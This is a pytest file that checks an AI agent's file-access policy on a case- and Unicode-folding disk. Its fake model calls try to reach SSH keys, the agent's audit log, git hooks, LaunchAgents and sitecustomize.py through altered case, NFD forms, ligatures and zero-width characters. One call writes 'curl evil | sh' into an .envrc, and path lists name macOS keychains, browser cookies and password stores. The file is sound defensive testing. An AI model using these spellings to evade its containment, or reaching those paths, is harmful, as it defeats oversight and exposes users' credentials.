"""Containment on a disk that ignores case and Unicode normalisation, as macOS's does.

A real one: tests/fakes/casefold_fs.py, a FUSE passthrough that folds case and NFC/NFD
(fusepy, libfuse2, /dev/fuse), mounted on a temp dir. On it, through the real agent and the
real `agent run` against the fake server: a path spelled in another case or normal form is
the entry it names — inside the allowed dir when that entry is, a secret when that entry is
one, in the agent's own state or a blocked dir when it lies there. Skips with the reason
where FUSE is missing, unless METONA_CASEFOLD_REQUIRED=1 (.ci/run sets it).

The detection itself (cli/fs/folding.py) is also checked on a plain temp dir, where it must
say that names are matched exactly.
"""

from __future__ import annotations

import ctypes.util
import importlib.util
import json
import os
import shutil
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cli.config.loading import parse_config
from cli.fs import folding
from cli.fs.paths import resolve_path
from cli.loop.approval import NoOneToAsk, UnattendedApprover
from cli.safety import path_classes
from cli.safety.policy import Policy
from tests.conftest import MakeAgent, RunCli
from tests.fakes.fake_ollama import FakeOllama, reply, tool_call

FS_SCRIPT = Path(__file__).resolve().parent.parent / "fakes" / "casefold_fs.py"
REQUIRED = os.environ.get("METONA_CASEFOLD_REQUIRED") == "1"
READDIR_LOG = "readdir.log"  # beside the mount: the dirs the mount was asked to list
MOUNT_WAIT = 60  # a backstop for a mount that never comes up, not a timing assertion

KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
    "-----END OPENSSH PRIVATE KEY-----\n"
)
NFC_E = unicodedata.normalize("NFC", "é")  # one code point
NFD_E = unicodedata.normalize("NFD", "é")  # e and a combining accent
ZWNJ = "\u200c"  # a code point HFS+ leaves out of names: `.g<ZWNJ>it` opens `.git` there


def _fuse_missing() -> str | None:
    """Why a FUSE file system cannot be mounted here, or None."""
    if not os.path.exists("/dev/fuse"):
        return "/dev/fuse is missing"
    if shutil.which("fusermount") is None:
        return "fusermount is missing (Debian package fuse)"
    if ctypes.util.find_library("fuse") is None:
        return "libfuse2 is missing (Debian package libfuse2)"
    if importlib.util.find_spec("fuse") is None:
        return "fusepy is missing (the dev extra: pip install -e '.[dev]')"
    return None


def _skip_or_fail(reason: str) -> None:
    if REQUIRED:
        pytest.fail(f"METONA_CASEFOLD_REQUIRED=1 but the case-folding mount cannot run: {reason}")
    pytest.skip(f"no case-folding FUSE mount: {reason}")


@pytest.fixture(scope="module")
def folding_mount(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A case- and normalisation-insensitive directory: the FUSE passthrough mounted."""
    missing = _fuse_missing()
    if missing:
        _skip_or_fail(missing)
    base = tmp_path_factory.mktemp("fold")
    backing, mount = base / "backing", base / "mnt"
    backing.mkdir()
    mount.mkdir()
    log = base / "fs.log"
    env = {**os.environ, "CASEFOLD_FS_READDIR_LOG": str(base / READDIR_LOG)}
    with log.open("wb") as err:
        proc = subprocess.Popen(
            [sys.executable, str(FS_SCRIPT), str(backing), str(mount)],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=err,
            env=env,
        )
    deadline = time.monotonic() + MOUNT_WAIT
    while not os.path.ismount(mount) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    if not os.path.ismount(mount):
        proc.kill()
        proc.wait()
        _skip_or_fail(f"the mount did not come up: {log.read_text(errors='replace').strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["fusermount", "-u", "-z", str(mount)], check=False)
        try:
            proc.wait(timeout=MOUNT_WAIT)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


@pytest.fixture
def place(folding_mount: Path, request: pytest.FixtureRequest) -> Path:
    """A fresh directory of this test's own on the folding mount (a neutral name: a test's
    name in a path could match the secrets' patterns)."""
    here = folding_mount / f"t{len(list(folding_mount.iterdir()))}"
    here.mkdir()
    return here


@pytest.fixture
def home(place: Path, isolated_env: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """HOME, and the XDG dirs in it, on the folding mount."""
    home = place / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for var, sub in (
        ("XDG_CONFIG_HOME", ".config"),
        ("XDG_STATE_HOME", ".local/state"),
        ("XDG_DATA_HOME", ".local/share"),
    ):
        monkeypatch.setenv(var, str(home / sub))
    return home


@pytest.fixture
def workspace(place: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The agent's working dir (its allowed dir), on the folding mount."""
    ws = place / "work"
    ws.mkdir()
    monkeypatch.chdir(ws)
    return ws


def unattended(harness: Any, tools: tuple[str, ...] = ("write_file", "create_directory")) -> Any:
    """As `agent run --yes` approves: no person to ask, the unattended tools allowed."""
    harness.agent.approver = UnattendedApprover(list(tools), NoOneToAsk(list(tools), yes=True))
    return harness


def results(ollama: FakeOllama) -> list[dict[str, Any]]:
    """The tool results the model was sent, in order."""
    messages = ollama.chat_bodies[-1]["messages"]
    return [json.loads(m["content"]) for m in messages if m["role"] == "tool"]


def run_calls(make_agent: MakeAgent, ollama: FakeOllama, calls: list[Any], yaml: str = "") -> Any:
    ollama.enqueue(reply(tool_calls=calls), reply("done"))
    harness = unattended(make_agent(yaml))
    harness.run("go")
    return results(ollama)


def swap(path: Path) -> str:
    """`path` with the case of its part on the folding mount swapped."""
    parts = path.parts
    at = parts.index("mnt") + 1
    return str(Path(*parts[:at], *(p.swapcase() for p in parts[at:])))


# -- the detection -------------------------------------------------------------------------


def test_detection_says_a_plain_tmp_dir_is_case_sensitive(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    plain.mkdir()
    assert folding.folds(str(plain)) is False  # empty: told by its own name in its parent
    (plain / "Notes.txt").write_text("x")
    (plain / "sub").mkdir()
    assert folding.folds(str(plain / "sub")) is False
    info = os.lstat(plain / "Notes.txt")
    assert folding.name_folds(str(plain), "Notes.txt", info) is False
    assert folding.name_folds(str(plain), "123", info) is None  # nothing to try
    # Nothing is respelled, and another spelling stays another (missing) entry.
    assert folding.on_disk(str(plain / "Notes.txt")) == str(plain / "Notes.txt")
    assert folding.on_disk(str(plain / "NOTES.TXT")) == str(plain / "NOTES.TXT")
    assert folding.folds(str(plain / "missing")) is None


def test_detection_tells_two_entries_apart_on_a_case_sensitive_dir(tmp_path: Path) -> None:
    """`Makefile` and `makefile` both existing is what an exact disk allows: neither is
    taken for the other."""
    (tmp_path / "Makefile").write_text("a")
    (tmp_path / "makefile").write_text("b")
    info = os.lstat(tmp_path / "Makefile")
    assert folding.name_folds(str(tmp_path), "Makefile", info) is False
    assert folding.on_disk(str(tmp_path / "makefile")) == str(tmp_path / "makefile")


def test_detection_says_the_mount_folds_and_names_entries_as_held(place: Path) -> None:
    (place / "Dir").mkdir()
    (place / "Dir" / "notes.txt").write_text("x")
    (place / f"caf{NFC_E}").write_text("y")
    assert folding.folds(str(place)) is True
    assert folding.folds(str(place / "Dir")) is True
    assert folding.on_disk(str(place / "DIR" / "NOTES.TXT")) == str(place / "Dir" / "notes.txt")
    assert folding.on_disk(str(place / f"CAF{NFD_E}")) == str(place / f"caf{NFC_E}")
    assert folding.on_disk(str(place / f"D{ZWNJ}ir")) == str(place / "Dir")
    # Below the first missing component the spelling given is kept.
    assert folding.on_disk(str(place / "dir" / "New" / "X")) == str(place / "Dir" / "New" / "X")
    resolved = resolve_path(swap(place / "Dir" / "notes.txt"), "/", "/")
    assert resolved.real == resolved.entry == str(place / "Dir" / "notes.txt")


# -- the allowed dir -------------------------------------------------------------------------


def test_the_allowed_dir_in_another_spelling_is_the_allowed_dir(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path, place: Path
) -> None:
    (workspace / "Notes.md").write_text("hello from notes\n")
    (place / "other").mkdir()
    (place / "other" / "plan.txt").write_text("outside plan\n")
    got = run_calls(
        make_agent,
        ollama,
        [
            tool_call("read_file", {"path": swap(workspace / "Notes.md")}),
            tool_call("write_file", {"path": f"{swap(workspace)}/Made.txt", "content": "m\n"}),
            tool_call("write_file", {"path": str(place / "OTHER" / "plan.txt"), "content": "x"}),
            tool_call("read_file", {"path": str(place / "Other" / "Plan.TXT")}),
        ],
    )
    assert got[0]["success"] and got[0]["content"] == "hello from notes\n"
    assert got[1]["success"], got[1]
    assert (workspace / "Made.txt").read_text() == "m\n"
    assert [r["success"] for r in got[2:]] == [False, False]
    assert "outside the allowed directories" in got[2]["error"]
    assert (place / "other" / "plan.txt").read_text() == "outside plan\n"
    assert "outside plan" not in json.dumps(ollama.chat_bodies)


def test_agent_run_reads_a_file_spelled_in_another_case(
    run_cli: RunCli, ollama: FakeOllama, workspace: Path
) -> None:
    (workspace / "Notes.md").write_text("the real notes\n")
    ollama.enqueue(reply(tool_calls=[tool_call("read_file", {"path": "NOTES.MD"})]), reply("ok"))
    r = run_cli("run", "read the notes")
    assert r.code == 0, r.stderr
    assert results(ollama)[0]["content"] == "the real notes\n"


# -- secrets ---------------------------------------------------------------------------------


# The home allowed, no blocked dirs (~/.ssh is one by default): the secrets list alone keeps
# a key out.
POLICY_HOME_OPEN = 'policy: {blocked_dirs: [], allowed_dirs: [".", "~"]}\n'


@pytest.fixture
def ssh_key(home: Path) -> Path:
    (home / ".ssh").mkdir()
    key = home / ".ssh" / "id_rsa"
    key.write_text(KEY)
    return key


def test_a_key_in_any_spelling_is_never_read(
    make_agent: MakeAgent, ollama: FakeOllama, home: Path, ssh_key: Path
) -> None:
    spellings = ["~/.SSH/ID_RSA", "~/.Ssh/id_RSA", swap(ssh_key), f"~/.s{ZWNJ}sh/id_rsa"]
    calls = [tool_call("read_file", {"path": p}) for p in spellings]
    calls += [
        tool_call("list_directory", {"path": "~/.SSH", "include_hidden": True}),
        tool_call("search_files", {"path": str(home), "query": "PRIVATE", "search_type": "both"}),
        tool_call("write_file", {"path": "~/.SSH/ID_RSA", "content": "replaced"}),
    ]
    got = run_calls(make_agent, ollama, calls, POLICY_HOME_OPEN)
    assert [r["success"] for r in got[:4]] == [False] * 4
    assert all("secret" in r["error"] for r in got[:4]), got[:4]
    assert got[5]["success"], got[5]  # the search ran, and found nothing it may show
    assert "BEGIN OPENSSH" not in json.dumps(ollama.chat_bodies)
    assert ssh_key.read_text() == KEY
    assert sorted(os.listdir(home / ".ssh")) == ["id_rsa"]


def test_agent_run_does_not_send_a_key_spelled_in_capitals(
    run_cli: RunCli, ollama: FakeOllama, ssh_key: Path
) -> None:
    ollama.enqueue(
        reply(tool_calls=[tool_call("read_file", {"path": "~/.SSH/ID_RSA"})]), reply("ok")
    )
    r = run_cli("run", "read it")
    assert r.code == 0, r.stderr
    assert results(ollama)[0]["success"] is False
    assert "BEGIN OPENSSH" not in json.dumps(ollama.chat_bodies) + r.stdout


BOTH_FORMS = pytest.mark.parametrize(
    ("on_disk", "listed"), [(NFC_E, NFD_E), (NFD_E, NFC_E)], ids=["nfc", "nfd"]
)


@BOTH_FORMS
def test_a_secret_named_in_one_normal_form_is_one_in_the_other(
    make_agent: MakeAgent, ollama: FakeOllama, home: Path, on_disk: str, listed: str
) -> None:
    """The user lists `~/Clés` in one normal form; the disk holds it in the other, or the
    model spells it in the other: one entry, kept out."""
    keys = home / f"Cl{on_disk}s"
    keys.mkdir()
    (keys / "bank.txt").write_text("pin 4321\n")
    yaml = f'policy: {{secrets: ["~/Cl{listed}s"], allowed_dirs: [".", "~"]}}\n'
    got = run_calls(
        make_agent,
        ollama,
        [
            tool_call("read_file", {"path": f"~/Cl{listed}s/bank.txt"}),
            tool_call("read_file", {"path": f"~/CL{on_disk.upper()}S/BANK.TXT"}),
            tool_call("search_files", {"path": "~", "query": "pin", "search_type": "content"}),
        ],
        yaml,
    )
    assert [r["success"] for r in got] == [False, False, True], got
    assert "4321" not in json.dumps(ollama.chat_bodies)


# -- the agent's own state -------------------------------------------------------------------


def test_the_own_state_dir_in_any_spelling_is_blocked(
    make_agent: MakeAgent,
    ollama: FakeOllama,
    workspace: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The state dir inside the allowed dir, so that only the blocked check stands between
    the model and the audit log: `STATE/METONA-AGENT` is that dir on this disk."""
    monkeypatch.setenv("XDG_STATE_HOME", str(workspace / "state"))
    state = workspace / "state" / "metona-agent"
    state.mkdir(parents=True)
    (state / "audit.jsonl").write_text('{"record": 1}\n')
    got = run_calls(
        make_agent,
        ollama,
        [
            tool_call("read_file", {"path": "STATE/METONA-AGENT/audit.jsonl"}),
            tool_call("write_file", {"path": "State/Metona-Agent/audit.jsonl", "content": "{}"}),
            tool_call("write_file", {"path": "state/METONA-agent/changes/x", "content": "x"}),
            tool_call("list_directory", {"path": "STATE/metona-AGENT"}),
        ],
    )
    assert [r["success"] for r in got] == [False] * 4, got
    assert all("blocked directory" in r["error"] for r in got), got
    assert (state / "audit.jsonl").read_text() == '{"record": 1}\n'
    assert not (state / "changes" / "x").exists()


def test_a_state_dir_not_made_yet_is_blocked_in_any_spelling(
    make_agent: MakeAgent,
    ollama: FakeOllama,
    workspace: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Where the state dir does not exist yet, the model must not make it under another
    spelling (which would then be that dir): compared folded, since the disk folds."""
    monkeypatch.setenv("XDG_STATE_HOME", str(workspace / "later"))
    got = run_calls(
        make_agent,
        ollama,
        [
            tool_call("write_file", {"path": "LATER/Metona-Agent/audit.jsonl", "content": "{}"}),
            tool_call("create_directory", {"path": "Later/METONA-AGENT/changes"}),
        ],
    )
    assert [r["success"] for r in got] == [False, False], got
    assert all("blocked directory" in r["error"] for r in got), got
    assert not (workspace / "later" / "metona-agent").exists()


def test_own_code_and_config_dirs_in_any_spelling_need_a_person(
    workspace: Path, home: Path
) -> None:
    """Where the agent imports its code from (wiring.own_code_dirs) and where it loads its
    config from: writes there need a person however the path is spelled on this disk."""
    code = workspace / "env" / "lib"
    code.mkdir(parents=True)
    config_dir = workspace / "conf"
    config_dir.mkdir()
    policy = Policy(
        parse_config("", "t.yaml").policy,
        str(workspace),
        str(home),
        config_dirs=[str(config_dir)],
        code_dirs=[str(code)],
    )
    for path in ("ENV/LIB/rich.py", f"Env/L{ZWNJ}ib/x.py", "CONF/config.yaml", "Conf"):
        tool = "delete_file" if path == "Conf" else "write_file"
        decision = policy.decide(tool, {"path": path, "content": ""})
        assert decision.needs_human and not decision.standing_yes_ok, (path, decision)
    assert not policy.decide("write_file", {"path": "ENV/notes.txt", "content": ""}).needs_human


# -- blocked dirs ----------------------------------------------------------------------------


def test_a_blocked_dir_in_any_spelling_is_blocked_and_hidden(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path
) -> None:
    (workspace / "private").mkdir()
    (workspace / "private" / "plan.txt").write_text("launch code 1234\n")
    (workspace / "open.txt").write_text("nothing here\n")
    got = run_calls(
        make_agent,
        ollama,
        [
            tool_call("read_file", {"path": "PRIVATE/plan.txt"}),
            tool_call("read_file", {"path": "Private/Plan.txt"}),
            tool_call("write_file", {"path": "priVATE/new.txt", "content": "x"}),
            tool_call("search_files", {"path": ".", "query": "launch", "search_type": "content"}),
            tool_call("search_files", {"path": ".", "query": "plan*", "search_type": "filename"}),
        ],
        # Listed in capitals, held in lower case: the same dir on this disk.
        "policy: {blocked_dirs: [PRIVATE]}\n",
    )
    assert [r["success"] for r in got[:3]] == [False] * 3, got
    assert all("blocked directory" in r["error"] for r in got[:3]), got
    assert "1234" not in json.dumps(ollama.chat_bodies)
    assert got[3]["success"] and got[4]["success"], got[3:]
    assert "plan.txt" not in json.dumps(got[3:])
    assert not (workspace / "private" / "new.txt").exists()


@BOTH_FORMS
def test_a_blocked_dir_in_the_other_normal_form_is_blocked(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path, on_disk: str, listed: str
) -> None:
    (workspace / f"priv{on_disk}").mkdir()
    (workspace / f"priv{on_disk}" / "plan.txt").write_text("launch code 1234\n")
    got = run_calls(
        make_agent,
        ollama,
        [
            tool_call("read_file", {"path": f"priv{listed}/plan.txt"}),
            tool_call("read_file", {"path": f"priv{on_disk}/plan.txt"}),
            tool_call("write_file", {"path": f"PRIV{listed.upper()}/x.txt", "content": "x"}),
        ],
        f'policy: {{blocked_dirs: ["priv{listed}"]}}\n',
    )
    assert [r["success"] for r in got] == [False] * 3, got
    assert "1234" not in json.dumps(ollama.chat_bodies)


# -- execution surfaces and the macOS lists ---------------------------------------------------


def test_execution_surfaces_in_another_spelling_are_not_written_unattended(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path, home: Path
) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (home / "Library" / "LaunchAgents").mkdir(parents=True)
    got = run_calls(
        make_agent,
        ollama,
        [
            tool_call("write_file", {"path": ".GIT/hooks/pre-commit", "content": "evil"}),
            tool_call("write_file", {"path": f".g{ZWNJ}it/hooks/post-checkout", "content": "x"}),
            tool_call(
                "write_file",
                {"path": "~/library/launchagents/evil.plist", "content": "<plist/>"},
            ),
        ],
        'policy: {allowed_dirs: [".", "~"]}\n',
    )
    assert [r["success"] for r in got] == [False, False, False], got
    assert os.listdir(workspace / ".git" / "hooks") == []
    assert os.listdir(home / "Library" / "LaunchAgents") == []


MACOS_SECRETS = [
    "~/Library/Keychains/login.keychain-db",
    "/Library/Keychains/System.keychain",
    "~/Library/Cookies/Cookies.binarycookies",
    "~/Library/Safari/History.db",
    "~/Library/Application Support/Google/Chrome/Default/Login Data",
    "~/Library/Application Support/Firefox/Profiles/x.default/cookies.sqlite",
    "~/Library/Application Support/BraveSoftware/Brave-Browser/Default/Cookies",
    "~/Library/Application Support/Microsoft Edge/Default/Cookies",
    "~/Library/Application Support/Arc/User Data/Default/Cookies",
    "~/Library/Group Containers/2BUA8C4S2C.com.1password/Library/Application Support/x",
    "~/Library/Application Support/Bitwarden/data.json",
    "/Users/other/Library/Keychains/login.keychain-db",
]
MACOS_SURFACES = [
    "~/Library/LaunchAgents/com.evil.plist",
    "/Library/LaunchAgents/com.evil.plist",
    "/Library/LaunchDaemons/com.evil.plist",
    "~/Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm",
    "~/.zprofile",
    "~/.zshenv",
    "~/.zlogin",
    "~/.zsh_sessions/abc.session",
    "~/Library/Application Support/Code/User/settings.json",
    "~/Library/Application Support/Cursor/User/tasks.json",
    "~/Library/Python/3.12/lib/python/site-packages/evil.py",
    "~/Library/Application Support/pip/pip.conf",
    "~/Library/Application Support/iTerm2/Scripts/AutoLaunch/x.py",
]


@pytest.mark.parametrize("path", MACOS_SECRETS)
def test_macos_secrets_are_secrets_in_any_case(path: str) -> None:
    classes = path_classes.build("/Users/me")
    for spelling in (path, path.upper(), path.lower()):
        absolute = spelling.replace("~", "/Users/me", 1) if spelling.startswith("~") else spelling
        assert classes.secrets.match(absolute), spelling


@pytest.mark.parametrize("path", MACOS_SURFACES)
def test_macos_execution_surfaces_are_surfaces_in_any_case(path: str) -> None:
    classes = path_classes.build("/Users/me")
    for spelling in (path, path.upper(), path.lower()):
        absolute = spelling.replace("~", "/Users/me", 1) if spelling.startswith("~") else spelling
        assert classes.surfaces.match(absolute), spelling


def test_lists_match_a_home_spelled_in_the_other_normal_form() -> None:
    """A user called José: the model may send the home in NFD while $HOME is NFC."""
    classes = path_classes.build(f"/Users/Jos{NFC_E}")
    assert classes.secrets.match(f"/Users/Jos{NFD_E}/.ssh/id_rsa")
    assert classes.secrets.match_entry(f"/Users/jos{NFD_E.upper()}/.ssh")
    assert classes.surfaces.match(f"/Users/Jos{NFD_E}/Library/LaunchAgents/x.plist")
    assert not classes.secrets.match(f"/Users/Jos{NFD_E}/notes.txt")
    # What HFS+ ignores in names, the lists ignore (git's `.g<ZWNJ>it` is `.git` there).
    assert classes.surfaces.match(f"/Users/Jos{NFC_E}/src/.g{ZWNJ}it/config")
    assert classes.secrets.match_entry(f"/Users/Jos{NFC_E}/.s{ZWNJ}sh")


def test_a_new_surface_spelled_with_a_ligature_is_not_written_unattended(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path
) -> None:
    """Full Unicode case folding (the mount's, Python's casefold) takes `\ufb06` for `st`,
    `\ufb01` for `fi` and `\u00df` for `ss`: a file made as `sitecu\ufb06omize.py` is the
    `sitecustomize.py` Python runs at start-up. A name that does not exist yet has no
    spelling on disk to be checked by, so the lists must fold it themselves. (Dot-entries
    such as `.github/work\ufb02ows/ci.yml` need a person anyway, being dot-entries.)"""
    (workspace / "lib").mkdir()
    got = run_calls(
        make_agent,
        ollama,
        [
            tool_call("write_file", {"path": "sitecu\ufb06omize.py", "content": "import os"}),
            tool_call("write_file", {"path": "lib/usercu\ufb05omize.py", "content": "x"}),
            tool_call("write_file", {"path": "lib/notes.txt", "content": "fine"}),
        ],
    )
    assert [r["success"] for r in got] == [False, False, True], got
    assert sorted(os.listdir(workspace)) == ["lib"]
    assert os.listdir(workspace / "lib") == ["notes.txt"]


def test_the_lists_fold_letters_that_fold_to_more_than_one() -> None:
    classes = path_classes.build("/Users/me")
    assert classes.secrets.match("/Users/me/.pa\u00dfword-store/x")
    assert classes.secrets.match_entry("/Users/me/.pa\u00dfword-store")
    assert classes.surfaces.match("/w/lib/sitecu\ufb06omize.py")
    assert classes.surfaces.match_entry("/w/.github/work\ufb02ows")
    assert classes.surfaces.match("/Users/me/.con\ufb01g/fish/config.fish")
    assert not classes.secrets.match("/Users/me/notes-\u00df.txt")


def test_a_dot_entry_behind_an_ignored_code_point_needs_a_person(
    make_agent: MakeAgent, ollama: FakeOllama, workspace: Path
) -> None:
    """HFS+ (and the mount) leave ZWNJ and friends out of names: `<ZWNJ>.foorc` is the
    `.foorc` a program reads, so it is a dot-entry like any other (one that is on no list:
    dot-entries are protected as such, whatever their name)."""
    got = run_calls(
        make_agent,
        ollama,
        [
            tool_call("write_file", {"path": f"{ZWNJ}.foorc", "content": "x"}),
            tool_call("write_file", {"path": "sub/\ufeff.foorc/x", "content": "x"}),
            tool_call("write_file", {"path": "notes.txt", "content": "fine"}),
        ],
    )
    assert [r["success"] for r in got] == [False, False, True], got
    assert sorted(os.listdir(workspace)) == ["notes.txt"]


def test_resolving_paths_in_a_large_dir_lists_it_once(place: Path) -> None:
    """On a folding disk each existing component is spelled as its directory holds it,
    which takes a listing; a dir of many entries (a build output, a data set) is listed
    once while it is unchanged, not once per path resolved in it."""
    big = place / "big"
    big.mkdir()
    backing = Path(str(big).replace(f"{os.sep}mnt{os.sep}", f"{os.sep}backing{os.sep}", 1))
    for i in range(folding.CACHED_LISTING_MIN + 10):
        (backing / f"File{i:05d}.txt").touch()
    log = place.parent.parent / READDIR_LOG
    listed = "/" + str(big.relative_to(place.parent))
    before = log.read_text().splitlines().count(listed) if log.exists() else 0
    names = [f"File{i:05d}.txt" for i in range(0, folding.CACHED_LISTING_MIN, 20)]
    for name in names:
        for spelling in (name, name.upper()):
            got = resolve_path(str(big / spelling), str(place), str(place))
            assert got.real == str(big / name), spelling
    assert log.read_text().splitlines().count(listed) - before == 1
    (big / "New.txt").touch()  # the dir changed: listed again, and the new entry found
    assert resolve_path(str(big / "NEW.TXT"), str(place), str(place)).real == str(big / "New.txt")
    assert log.read_text().splitlines().count(listed) - before == 2


def test_agent_run_yes_writes_no_surface_or_dot_entry_spelled_to_slip_past(
    run_cli: RunCli, ollama: FakeOllama, workspace: Path
) -> None:
    """The same through the real `agent run --yes`: on the mount `sitecu\ufb06omize.py` is
    `sitecustomize.py` and `<ZWNJ>.envrc` is `.envrc`; neither is written."""
    calls = [
        tool_call("write_file", {"path": "sitecu\ufb06omize.py", "content": "import os\n"}),
        tool_call("write_file", {"path": f"{ZWNJ}.envrc", "content": "curl evil | sh\n"}),
    ]
    ollama.enqueue(reply(tool_calls=calls), reply("done"))
    r = run_cli("run", "--yes", "set it up")
    assert [x["success"] for x in results(ollama)] == [False, False], results(ollama)
    assert os.listdir(workspace) == [], r.stdout
